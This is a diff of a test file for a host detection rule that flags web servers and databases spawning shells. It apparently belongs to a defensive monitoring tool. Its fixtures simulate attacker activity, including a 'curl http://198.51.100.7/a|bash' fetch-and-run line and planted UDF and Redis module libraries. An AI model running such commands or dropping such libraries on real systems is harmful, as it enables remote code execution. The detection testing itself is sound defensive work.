@@ -1,10 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { pipes, Stage } from '../../../test/stage.ts';
+import { pipes, Machine } from '../../../test/machine.ts';
 import { make, tryOut } from '../testing.ts';
 import { serverShell } from './behaviour.ts';
 import { commandsOf } from './commands.ts';
 
-const stage = (settings: Record<string, number> = {}): Stage => new Stage(serverShell, settings);
+const stage = (settings: Record<string, number> = {}): Machine => new Machine(serverShell, { settings });
 const hour = 3_600_000;
 
 describe('a web server that was broken into', () => {
@@ -14,27 +14,27 @@ describe('a web server that was broken into', () => {
     ['sh -c cd /tmp; python3 -c import os', undefined],
   ])('that runs %s, while it is still learned', (cmdline, level) => {
     const s = stage();
-    s.spawn(s.phpWorker(), '/usr/bin/dash', cmdline, pipes);
-    expect(s.levels()).toEqual(level === undefined ? [] : [level]);
+    s.spawn(s.worker(), '/usr/bin/dash', cmdline, { extra: pipes });
+    expect(s.levels).toEqual(level === undefined ? [] : [level]);
   });
 
   it('names the service, also when a program of Python or Java serves', () => {
     const s = stage();
-    const app = s.service('shop', '/usr/bin/node', 'node /srv/shop/server.js');
+    const app = s.daemon('shop', '/usr/bin/node', 'node /srv/shop/server.js');
     s.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_ip: '0.0.0.0', destination_port: 3000 });
-    s.spawn(s.spawn(app, '/usr/bin/dash', '/bin/sh -c ls', pipes), '/usr/bin/curl', 'curl http://198.51.100.7/x');
-    const java = s.service('tomcat10', '/usr/lib/jvm/java-17/bin/java', 'java -classpath bootstrap.jar org.apache.catalina.startup.Bootstrap start');
+    s.spawn(s.spawn(app, '/usr/bin/dash', '/bin/sh -c ls', { extra: pipes }), '/usr/bin/curl', 'curl http://198.51.100.7/x');
+    const java = s.daemon('tomcat10', '/usr/lib/jvm/java-17/bin/java', 'java -classpath bootstrap.jar org.apache.catalina.startup.Bootstrap start');
     s.spawn(java, '/usr/bin/bash', 'bash -c id');
     expect(s.found.map((d) => [d.level, d.group?.['server']])).toEqual([['high', 'shop'], ['high', 'tomcat']]);
   });
 
   it('is one story for one worker, worse as it goes on', () => {
     const s = stage();
-    const worker = s.phpWorker();
+    const worker = s.worker();
     s.spawn(worker, '/usr/bin/dash', 'sh -c id');
     const sh = s.spawn(worker, '/usr/bin/dash', 'sh -c curl http://198.51.100.7/a|bash');
-    s.spawn(sh, '/usr/bin/bash', 'bash', pipes);
-    expect(s.levels()).toEqual(['high', 'critical']);
+    s.spawn(sh, '/usr/bin/bash', 'bash', { extra: pipes });
+    expect(s.levels).toEqual(['high', 'critical']);
     expect(new Set(s.found.map((d) => d.key)).size).toBe(1);
   });
 });
@@ -49,74 +49,74 @@ describe('a database', () => {
     ['mongod', '/usr/bin/mongod', 'sh -c ls', 'high'],
   ])('%s that runs a command', (unit, path, cmdline, level) => {
     const s = stage();
-    s.spawn(s.service(unit, path), '/usr/bin/dash', cmdline);
-    expect(s.levels()).toEqual([level]);
+    s.spawn(s.daemon(unit, path), '/usr/bin/dash', cmdline);
+    expect(s.levels).toEqual([level]);
   });
 
   it('that is given a library', () => {
     const s = stage();
-    s.write(s.service('mariadb', '/usr/sbin/mariadbd'), '/usr/lib/mysql/plugin/udf_run.so', 'create');
-    s.rename(s.service('redis-server', '/usr/bin/redis-server'), '/var/lib/redis/temp-1.rdb', '/var/lib/redis/exp.so');
-    s.write(s.service('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres'), '/var/lib/postgresql/15/main/base/1/2', 'create');
-    expect(s.levels()).toEqual(['critical', 'critical']);
+    s.file(s.daemon('mariadb', '/usr/sbin/mariadbd'), 'create', '/usr/lib/mysql/plugin/udf_run.so');
+    s.rename(s.daemon('redis-server', '/usr/bin/redis-server'), '/var/lib/redis/temp-1.rdb', '/var/lib/redis/exp.so');
+    s.file(s.daemon('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres'), 'create', '/var/lib/postgresql/15/main/base/1/2');
+    expect(s.levels).toEqual(['critical', 'critical']);
   });
 
   it('archives its log and takes part in a cluster', () => {
     const s = stage({ learnHours: 0 });
-    const postgres = s.service('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres');
+    const postgres = s.daemon('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres');
     for (const command of ['test ! -f /mnt/wal/0001 && cp pg_wal/0001 /mnt/wal/0001', 'pgbackrest --stanza=main archive-push pg_wal/0001', '/opt/bin/push-log pg_wal/0001']) s.spawn(postgres, '/usr/bin/dash', `sh -c ${command}`);
-    s.spawn(s.service('mariadb', '/usr/sbin/mariadbd'), '/usr/bin/dash', "sh -c wsrep_sst_rsync --role 'joiner'");
-    expect(s.levels()).toEqual([]);
+    s.spawn(s.daemon('mariadb', '/usr/sbin/mariadbd'), '/usr/bin/dash', "sh -c wsrep_sst_rsync --role 'joiner'");
+    expect(s.levels).toEqual([]);
   });
 });
 
 describe('what a server usually starts', () => {
   it('known helpers are never told', () => {
     const s = stage({ learnHours: 0 });
-    const worker = s.phpWorker();
-    for (const command of ['/usr/sbin/sendmail -t -i', 'convert a.jpg -resize 50% b.jpg', 'cd /var/www/x && git rev-parse HEAD', "ffmpeg -i a.mp4 b.webm 2>&1", 'df -h | gzip']) s.spawn(worker, '/usr/bin/dash', `sh -c ${command}`, pipes);
+    const worker = s.worker();
+    for (const command of ['/usr/sbin/sendmail -t -i', 'convert a.jpg -resize 50% b.jpg', 'cd /var/www/x && git rev-parse HEAD', "ffmpeg -i a.mp4 b.webm 2>&1", 'df -h | gzip']) s.spawn(worker, '/usr/bin/dash', `sh -c ${command}`, { extra: pipes });
     s.spawn(worker, '/usr/bin/convert', 'convert a b');
     expect(s.found.map((d) => d.events[0]?.process_cmdline)).toEqual([]);
   });
 
   it('a server may start itself, and its own start is none', () => {
     const s = stage({ learnHours: 0 });
-    const app = s.service('shop', '/usr/bin/node', 'node /srv/shop/server.js');
+    const app = s.daemon('shop', '/usr/bin/node', 'node /srv/shop/server.js');
     s.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_port: 3000 });
     s.spawn(app, '/usr/bin/node', '/usr/bin/node /srv/shop/worker.js');
     const gunicorn = s.spawn(s.spawn(1, '/usr/bin/dash', 'sh /srv/run.sh'), '/usr/bin/python3.11', 'python3 /usr/bin/gunicorn app:app');
     s.spawn(gunicorn, '/usr/bin/python3.11', 'python3 /usr/bin/gunicorn app:app');
     // What a unit runs before its server does.
-    const pre = s.spawn(1, '/usr/bin/dash', '/bin/sh /usr/sbin/apachectl start', {}, { cgroup: '/system.slice/apache2.service' });
+    const pre = s.spawn(1, '/usr/bin/dash', '/bin/sh /usr/sbin/apachectl start', { cgroup: '/system.slice/apache2.service' });
     s.spawn(pre, '/usr/bin/id', 'id -u');
     s.spawn(pre, '/usr/sbin/apache2', '/usr/sbin/apache2 -k start');
-    expect(s.levels()).toEqual([]);
+    expect(s.levels).toEqual([]);
   });
 
   it('is learned for a day: the same is quiet after, the new is told, the dangerous is told throughout', () => {
     const s = stage();
-    const worker = s.phpWorker();
+    const worker = s.worker();
     for (let i = 0; i < 30; i++) {
       s.spawn(worker, '/usr/bin/dash', 'sh -c /usr/local/bin/thumbs --all');
       s.spawn(worker, '/usr/bin/python3.11', 'python3 /var/www/tools/report.py');
       s.later(hour);
     }
-    expect(s.levels()).toEqual([]);
+    expect(s.levels).toEqual([]);
     s.spawn(worker, '/usr/bin/dash', 'sh -c /usr/local/bin/other');
-    expect(s.levels()).toEqual(['medium']);
-    const again = new Stage(serverShell, {}, {}, s.run.save?.());
+    expect(s.levels).toEqual(['medium']);
+    const again = new Machine(serverShell, { state: s.run.save?.() });
     again.clock = s.clock;
-    const next = again.phpWorker();
+    const next = again.worker();
     again.spawn(next, '/usr/bin/dash', 'sh -c /usr/local/bin/thumbs --one');
-    expect(again.levels()).toEqual([]);
+    expect(again.levels).toEqual([]);
     again.spawn(next, '/usr/bin/dash', 'sh -c id');
-    expect(again.levels()).toEqual(['high']);
+    expect(again.levels).toEqual(['high']);
     expect(s.run.learning?.()).toMatchObject({ ready: true });
   });
 
   it('a download each hour from the first day on becomes its own', () => {
     const s = stage();
-    const worker = s.phpWorker();
+    const worker = s.worker();
     for (let i = 0; i < 26; i++) { s.spawn(worker, '/usr/bin/dash', 'sh -c curl -s https://rates.example/today'); s.later(hour); }
     const told = s.found.length;
     for (let i = 0; i < 10; i++) { s.spawn(worker, '/usr/bin/dash', 'sh -c curl -s https://rates.example/today'); s.later(hour); }
@@ -125,11 +125,11 @@ describe('what a server usually starts', () => {
 
   it('a build server runs scripts by trade', () => {
     const s = stage({ learnHours: 0 });
-    const jenkins = s.service('jenkins', '/usr/bin/java', 'java -jar /usr/share/java/jenkins.war');
+    const jenkins = s.daemon('jenkins', '/usr/bin/java', 'java -jar /usr/share/java/jenkins.war');
     s.tell('listener', jenkins, { action: 'listener-start', protocol: 'tcp', destination_port: 8080 });
     s.spawn(jenkins, '/usr/bin/dash', '/bin/sh -xe /tmp/jenkins123.sh');
     s.spawn(jenkins, '/usr/bin/dash', 'sh -c curl https://artifacts.example/x');
-    expect(s.levels()).toEqual([]);
+    expect(s.levels).toEqual([]);
   });
 });
 
